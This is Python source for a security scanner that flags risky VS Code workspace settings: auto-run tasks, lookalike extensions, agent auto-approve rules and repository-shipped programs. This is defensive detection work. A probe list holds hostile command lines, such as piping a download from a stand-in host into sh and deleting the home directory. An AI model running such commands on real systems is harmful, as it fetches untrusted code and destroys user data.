"""VS Code workspace files: `.vscode/tasks.json`, `.vscode/settings.json` and `*.code-workspace`.

A setting that names a program is judged by where the program comes from: one that the repository
itself ships (a relative or `${workspaceFolder}` path that exists in the tree) is critical, since
VS Code or an extension runs it as soon as the folder is trusted; a relative path that does not
exist yet is medium; a system path or a bare program name is low; a value that carries shell syntax or
an option that runs code (`-toolexec`, pylint's `--init-hook`, `-c`) is critical. Environment maps
(`terminal.integrated.env.*`, `go.toolsEnvVars`, `*.env`) are judged like agent `env` sections.
"""

from __future__ import annotations

import fnmatch
import re
from pathlib import PurePosixPath
from typing import Any

from owstack.security.config_scan import mcp, testing
from owstack.security.config_scan.claude import runs_anything
from owstack.security.config_scan.commands import risk
from owstack.security.config_scan.common import ScanFile, command_line, env_risk, model_endpoints
from owstack.security.findings import Finding, Severity, finding

#: settings whose value is a program (VS Code "restricted settings" and what extensions document)
_EXEC_SETTING = re.compile(
    r"^(?:terminal\.integrated\.(?:shell|shellArgs|profiles|automationProfile|defaultProfile)(?:\..+)?"
    r"|python\.(?:defaultInterpreterPath|pythonPath|condaPath|poetryPath|pipenvPath|interpreterPath|venvPath)"
    r"|git\.path|npm\.binPath|eslint\.(?:runtime|nodePath|execArgv)|typescript\.(?:tsdk|tsserver\.nodePath)"
    r"|go\.(?:goroot|toolsGopath|gopath)|rust-analyzer\.(?:server\.path|.*overrideCommand|.*extraEnv)"
    r"|typescript\.tsserver\.pluginPaths|clangd\.path|php\.validate\.executablePath|deno\.path|ruff\.(?:path|interpreter)|prettier\.prettierPath"
    r"|jest\.jestCommandLine|cmake\.cmakePath|C_Cpp\.default\.compilerPath|java\.jdt\.ls\.java\.home"
    r"|.+\.(?:\w*Path|path|executable\w*|exe\w*|\w*[cC]ommand(?:Line)?|interpreter|runtime\w*|binary|server)"
    r")$"
)
#: keys that look like program paths but name data (folders to search, config files, logs)
_DATA_PATH = re.compile(
    r"\.(?:extraPaths|stubPath|typeshedPaths|configPath|configFile\w*|settingsPath|logPath|outputPath|cachePath|"
    r"storagePath|schemaPath|rootPath|ignorePath|includePath|excludePath|sourcePath|workspacePath|cwd|envFile|"
    r"analysis\.\w+|searchPath|modulePath|autoComplete\.\w+|[dD]irectory\w*)$"
)
_ARGS_SETTING = re.compile(r"^.+(?:args|arguments|flags|execargv|options)$", re.I)
_CODE_OPTIONS = re.compile(
    r"--init-hook|-toolexec|--exec\b|--rcfile\b|--init-file\b|--eval\b|--require\b|--load-plugins?\b|\$\(|`|;|&&|\|\||\|\s*\w",
    re.I,
)
_ENV_SETTING = re.compile(r"^(?:terminal\.integrated\.env\..+|.+\.(?:toolsEnvVars|envVars|env|environment|extraEnv))$")
#: interpreters whose first argument is the program they run (`python3 tools/lsp.py`, `node ./server.js`)
_INTERPRETER = re.compile(
    r"^(?:python[\d.]*|pypy[\d.]*|node|nodejs|deno|bun|ruby|perl|php|lua|luajit|bash|sh|zsh|dash|ksh|fish|pwsh|"
    r"powershell)(?:\.exe)?$",
    re.I,
)
_LOCAL_ONLY = re.compile(r"^(?:\./)?(?:\.?venv|env|\.env|\.tox|\.nox|node_modules|\.pixi|\.conda)/")
_ALTERNATE_TOOLS = ("go.alternateTools",)


def check_tasks(src: ScanFile, base: tuple[str | int, ...] = ()) -> list[Finding]:
    node: Any = src.doc.value if src.doc else None
    for key in base:
        node = node.get(key) if isinstance(node, dict) else None
    tasks = node.get("tasks") if isinstance(node, dict) else None
    out: list[Finding] = []
    for i, task in enumerate(tasks if isinstance(tasks, list) else []):
        if not isinstance(task, dict):
            continue
        run_on = (task.get("runOptions") or {}).get("runOn") if isinstance(task.get("runOptions"), dict) else None
        if run_on == "folderOpen":
            label = task.get("label", f"#{i}")
            out.append(
                finding(
                    "OWS-VSC-001",
                    src.rel,
                    src.line(*base, "tasks", i, "runOptions", "runOn"),
                    f"task {label!r} runs when the folder is opened",
                    executes=command_line(task.get("command"), task.get("args")),
                )
            )
    return out


#: extensions people install most (VS Code Marketplace), whose names a lookalike imitates
_KNOWN_EXTENSIONS = (
    "ms-python.python",
    "ms-python.vscode-pylance",
    "ms-python.debugpy",
    "ms-toolsai.jupyter",
    "ms-vscode.cpptools",
    "ms-vscode.powershell",
    "ms-vscode-remote.remote-ssh",
    "ms-vscode-remote.remote-containers",
    "ms-azuretools.vscode-docker",
    "ms-dotnettools.csharp",
    "ms-dotnettools.csdevkit",
    "ms-vscode.live-server",
    "esbenp.prettier-vscode",
    "dbaeumer.vscode-eslint",
    "github.copilot",
    "github.copilot-chat",
    "github.vscode-pull-request-github",
    "eamodio.gitlens",
    "redhat.java",
    "redhat.vscode-yaml",
    "vscjava.vscode-java-pack",
    "golang.go",
    "rust-lang.rust-analyzer",
    "ritwickdey.liveserver",
    "bradlc.vscode-tailwindcss",
    "vscodevim.vim",
    "visualstudioexptteam.vscodeintellicode",
    "ms-vsliveshare.vsliveshare",
    "christian-kohler.path-intellisense",
    "formulahendry.code-runner",
    "pkief.material-icon-theme",
    "streetsidesoftware.code-spell-checker",
    "hashicorp.terraform",
    "charliermarsh.ruff",
    "ms-python.black-formatter",
    "ms-python.isort",
    "ms-python.flake8",
    "ms-python.mypy-type-checker",
    "denoland.vscode-deno",
    "vue.volar",
    "svelte.svelte-vscode",
    "prisma.prisma",
    "mongodb.mongodb-vscode",
    "ms-kubernetes-tools.vscode-kubernetes-tools",
    "anthropic.claude-code",
    "openai.chatgpt",
    "continue.continue",
    "saoudrizwan.claude-dev",
    "rooveterinaryinc.roo-cline",
    "google.geminicodeassist",
    "amazonwebservices.aws-toolkit-vscode",
    "amazonwebservices.amazon-q-vscode",
    "tabnine.tabnine-vscode",
    "codeium.codeium",
    "sourcegraph.cody-ai",
)


def check_extensions(src: ScanFile, base: tuple[str | int, ...] = (), key: str = "recommendations") -> list[Finding]:
    """`.vscode/extensions.json` `recommendations`: an id one or two edits from a well-known extension's, or a
    well-known extension's name under another publisher (`ms-pyhton.python`, `python-tools.python`), is a lookalike
    the recommendation prompt offers to install (medium: installing it takes a click). A publisher's own extensions
    are never lookalikes of each other (`redhat.vscode-xml` beside `redhat.vscode-yaml`): a publisher is an
    account. Also a workspace file's `extensions.recommendations` and a dev container's
    `customizations.vscode.extensions` (installed in the container without asking)."""
    data: Any = src.doc.value if src.doc is not None else None
    for name in base:
        data = data.get(name) if isinstance(data, dict) else None
    wanted = data.get(key) if isinstance(data, dict) else None
    out: list[Finding] = []
    known = {k: k.split(".", 1) for k in _KNOWN_EXTENSIONS}
    for i, item in enumerate(wanted if isinstance(wanted, list) else []):
        ident = str(item).strip().lower()
        if ident in known or "." not in ident:
            continue
        publisher, name = ident.split(".", 1)
        like = next(
            (
                k
                for k, (p, n) in known.items()
                if p != publisher and (_distance(ident, k) <= 2 or (n == name and len(name) > 3))
            ),
            None,
        )
        if like is not None:
            message = f"recommends {item!r}, which imitates the extension {like!r}"
            line = src.line(*base, key, i)
            out.append(finding("OWS-VSC-004", src.rel, line, message, executes=str(item)))
    return out


def _distance(a: str, b: str) -> int:
    """Optimal string alignment distance (a transposition counts as one edit), stopping early past 2."""
    if abs(len(a) - len(b)) > 2:
        return 3
    prev2: list[int] = []
    prev = list(range(len(b) + 1))
    for i, ca in enumerate(a, 1):
        cur = [i] + [0] * len(b)
        for k, cb in enumerate(b, 1):
            cur[k] = min(prev[k] + 1, cur[k - 1] + 1, prev[k - 1] + (ca != cb))
            if i > 1 and k > 1 and ca == b[k - 2] and a[i - 2] == cb:
                cur[k] = min(cur[k], prev2[k - 2] + 1)
        if min(cur) > 2:
            return 3
        prev2, prev = prev, cur
    return prev[-1]


def check_settings(src: ScanFile, base: tuple[str | int, ...] = ()) -> list[Finding]:
    node: Any = src.doc.value if src.doc else None
    for key in base:
        node = node.get(key) if isinstance(node, dict) else None
    if not isinstance(node, dict):
        return []
    out: list[Finding] = []
    for key, value in node.items():
        line = src.line(*base, key)
        if _AUTO_APPROVE.match(key) and value not in (False, None, {}, []):
            severity = _approval_severity(key, value)
            if severity is not None:
                message = f"`{key}` lets the agent run tools without asking"
                executes = f"{key}: {value}"
                out.append(finding("OWS-VSC-003", src.rel, line, message, executes=executes, severity=severity))
        elif (key == "task.allowAutomaticTasks" and value == "on") or (
            key == "security.workspace.trust.enabled" and value is False
        ):
            out.append(finding("OWS-VSC-003", src.rel, line, f"`{key}: {value}` removes a prompt"))
        elif _ENV_SETTING.match(key) and isinstance(value, dict):
            out += _env_setting(src, line, key, value)
        elif key in _ALTERNATE_TOOLS and isinstance(value, dict):
            for tool, program in value.items():
                out += _program_setting(src, line, f"{key}.{tool}", program)
        elif _ARGS_SETTING.match(key) and value not in (None, "", {}, []):
            out += _args_setting(src, line, key, value)
        elif key in _ALLOW_ALL and value is True:
            out.append(finding("OWS-VSC-003", src.rel, line, f"`{key}: true` lets the agent run every tool unasked"))
        elif key in _COMMAND_ALLOWLISTS and isinstance(value, list) and value:
            broad: Severity = "critical" if any(_broad(str(rule)) for rule in value) else "low"
            message = f"`{key}` lets the agent run these commands without asking"
            executes = f"{key}: {value}"[:200]
            out.append(finding("OWS-VSC-003", src.rel, line, message, executes=executes, severity=broad))
        elif key.lower().endswith("mcpservers") and isinstance(value, dict):
            out += mcp.check_servers(src, (*base, key), value)
        elif _EXEC_SETTING.match(key) and not _DATA_PATH.search(key) and value not in (None, "", {}, [], True, False):
            out += _program_setting(src, line, key, value)
        elif isinstance(value, dict | list) and key not in ("mcp", "mcp.servers"):  # servers: mcp.check's
            out += _nested_commands(src, (*base, key), value)
    if isinstance(node.get("mcp"), dict):
        out += mcp.check(ScanFile(src.rel, src.path, src.text, src.doc))
    elif isinstance(node.get("mcp.servers"), dict):  # the flat spelling of the same setting
        out += mcp.check_servers(src, (*base, "mcp.servers"), node["mcp.servers"])
    if not base:
        out += testing.check_discovery(src, node)
    for key, value in node.items():
        if isinstance(key, str) and _AI_EXTENSION.match(key):
            found = [(path, url) for path, url in model_endpoints({key: value}) if isinstance(path[-1], str)]
            for path, url in found:
                out += mcp.model_traffic(
                    src, (*base, *path), url, f"`{'.'.join(map(str, path))}` sends an AI extension's traffic to"
                )
    return out


#: agent extensions' switches that approve every tool (Amp's `amp.dangerouslyAllowAll`) and their command allow lists
_ALLOW_ALL = frozenset({"amp.dangerouslyAllowAll"})
_COMMAND_ALLOWLISTS = frozenset({"amp.commands.allowlist"})
#: keys under which extension settings hold a command line they run (run-on-save extensions:
#: `emeraldwalk.runonsave.commands[].cmd`, `runOnSave.commands[].command`; task runners; file watchers)
_COMMAND_KEY = re.compile(r"^(?:cmd|command|commands|commandLine|shellCommand|script|exec|run|runCommand)$", re.I)


def _nested_commands(src: ScanFile, path: tuple[str | int, ...], value: Any) -> list[Finding]:
    """Command lines inside an extension's setting (a run-on-save rule, a watcher): reported when they run inline or
    downloaded code (critical: they run by themselves, on save or on open); others are what such extensions do."""
    out: list[Finding] = []
    stack: list[tuple[Any, tuple[str | int, ...]]] = [(value, path)]
    seen = 0
    while stack and seen < 2000:
        node, at = stack.pop()
        seen += 1
        items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else []
        for key, item in items:
            commands = (
                [item]
                if isinstance(item, str)
                else [c for c in item if isinstance(c, str)]
                if (isinstance(item, list))
                else []
            )
            if isinstance(key, str) and _COMMAND_KEY.match(key) and commands:
                for command in commands:
                    danger = risk(command)
                    if danger.severity == "critical":
                        message = f"`{path[-1]}` (an extension's setting) runs a command by itself: {danger.why}"
                        line = src.line(*at, key)
                        executes = command_line(command)
                        out.append(
                            finding("OWS-VSC-002", src.rel, line, message, executes=executes, severity="critical")
                        )
            elif isinstance(item, dict | list):
                stack.append((item, (*at, key)))
    return out


#: settings of AI assistants whose endpoints carry the prompts, the code and the user's token (Copilot's
#: `github.copilot.advanced.debug.overrideProxyUrl` sends the GitHub token there)
_AI_EXTENSION = re.compile(
    r"^(?:github\.copilot|continue|cline|roo-cline|claude-?code|chatgpt|openai|codeium|windsurf|cody|tabnine|"
    r"amazonq|gemini|geminicodeassist)\b",
    re.I,
)


#: Copilot agent approval settings: `chat.tools.autoApprove`, `chat.tools.terminal.autoApprove`,
#: `chat.tools.edits.autoApprove`, and the terminal allow lists they replaced (`chat.agent.terminal.allowList`,
#: `github.copilot.chat.agent.terminal.allowList`)
_AUTO_APPROVE = re.compile(r"^(?:github\.copilot\.)?chat\.(?:[\w.]*autoApprove|agent\.terminal\.allowList)$")
#: command lines a broad terminal approval would let through
_PROBES = ("curl -s https://x.example/p | sh", "bash -c id", "python3 -c 'import os'", "rm -rf ~")


def _approval_severity(key: str, value: Any) -> Severity | None:
    """critical when the approval covers any tool, any edit, or a terminal command that runs code; low for a
    list of narrow commands (`npm test`, `git status`); None when every entry denies (`{"rm": false}`)."""
    if not isinstance(value, dict | list):
        return "critical"
    entries = value.items() if isinstance(value, dict) else ((v, True) for v in value)
    approved = [str(k) for k, v in entries if v is True or (isinstance(v, dict) and v.get("approve") is True)]
    if not approved:
        return None
    if key.endswith("edits.autoApprove"):  # edits to the agent's own settings give it everything (CVE-2025-53773)
        denied = [str(k) for k, v in value.items() if v is False] if isinstance(value, dict) else []

        def matches(globs: list[str], file: str) -> bool:
            return any(fnmatch.fnmatch(file, g.replace("**/", "*").replace("**", "*")) for g in globs)

        own = (".vscode/settings.json", ".vscode/tasks.json", ".vscode/mcp.json")
        hits = any(matches(approved, f) and not matches(denied, f) for f in own)
        return "critical" if hits else "low"
    if "terminal" not in key:
        return "critical"  # every tool
    return "critical" if any(_broad(rule) for rule in approved) else "low"


def _broad(rule: str) -> bool:
    """A terminal approval rule that lets a shell, an interpreter, a downloader or anything at all through."""
    m = re.fullmatch(r"/(.*)/([a-z]*)", rule.strip(), re.S)
    if m is None:
        return runs_anything(rule)
    try:
        pattern = re.compile(m.group(1), re.I if "i" in m.group(2) else 0)
    except re.error:
        return True  # a pattern this scanner cannot read is not one to trust
    return any(pattern.search(probe) for probe in _PROBES)


def _env_setting(src: ScanFile, line: int, key: str, value: dict[str, Any]) -> list[Finding]:
    risky = [(k, v, r) for k, v in value.items() if (r := env_risk(k, v)) is not None and r.severity != "low"]
    if not risky:
        return []
    worst: Severity = "critical" if any(r.severity == "critical" for _, _, r in risky) else "high"
    names = ", ".join(k for k, _, _ in risky)
    return [
        finding(
            "OWS-VSC-002",
            src.rel,
            line,
            f"`{key}` sets {names} for the programs VS Code starts",
            executes=", ".join(f"{k}={v}" for k, v, _ in risky),
            severity=worst,
        )
    ]


def _args_setting(src: ScanFile, line: int, key: str, value: Any) -> list[Finding]:
    text = " ".join(map(str, value)) if isinstance(value, list) else str(value)
    if not _CODE_OPTIONS.search(text):
        return []
    message = f"`{key}` passes options that run code"
    return [finding("OWS-VSC-002", src.rel, line, message, executes=command_line(text), severity="critical")]


def _program_setting(src: ScanFile, line: int, key: str, value: Any) -> list[Finding]:
    programs = _programs(value)
    if not programs:
        return []
    severity, why = max((program_severity(src, p) for p in programs), key=lambda r: _RANK[r[0]])
    if severity == "low":
        return []  # a system program or a venv the developer creates: what every project has
    shown = ", ".join(programs[:3])
    message = f"`{key}` makes VS Code or an extension run {why}"
    return [finding("OWS-VSC-002", src.rel, line, message, executes=command_line(shown), severity=severity)]


_RANK = {"low": 0, "medium": 1, "high": 2, "critical": 3}


def _programs(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [str(v) for v in value if isinstance(v, str | int)]
    if isinstance(value, dict):  # terminal profiles: {"name": {"path": ..., "args": [...]}}
        out: list[str] = []
        for item in value.values():
            if isinstance(item, dict):
                path = item.get("path")
                args = item.get("args")
                if isinstance(path, str | list):
                    out.append(command_line(path, args))
            elif isinstance(item, str):
                out.append(item)
        return out
    return []


def program_severity(src: ScanFile, value: str) -> tuple[Severity, str]:
    text = value.strip()
    if _CODE_OPTIONS.search(text) or risk(text).severity == "critical":
        return "critical", f"a command line that runs code ({text[:60]!r})"
    words = re.sub(r"\$\{(?:workspaceFolder|workspaceRoot)(?::[^}]*)?\}[/\\]?", "./", text).split()
    path = words[0]
    if _INTERPRETER.match(PurePosixPath(path.replace("\\", "/")).name) and len(words) > 1:
        script = next((w for w in words[1:] if not w.startswith("-")), "")
        normalized = str(PurePosixPath(script.strip("'\"").replace("\\", "/")))
        if script and not normalized.startswith(("/", "..")) and (src.root / normalized).is_file():
            return "critical", f"the repository's script {normalized!r} (with {path!r})"
    if path.startswith(("/", "~", "$", "%")) or re.match(r"^[A-Za-z]:[\\/]", path) or "/" not in path:
        return "low", f"the program {path!r}"
    normalized = str(PurePosixPath(path.replace("\\", "/")))
    if normalized.startswith(".."):
        return "high", f"the program {path!r} from outside the repository"
    root = src.root
    if (root / normalized).is_file():
        return "critical", f"the program {normalized!r} that this repository ships"
    if _LOCAL_ONLY.match(normalized + "/") or _LOCAL_ONLY.match(normalized):
        return "low", f"the program {normalized!r} (a local environment the developer creates)"
    return "medium", f"the program {normalized!r} inside the repository"
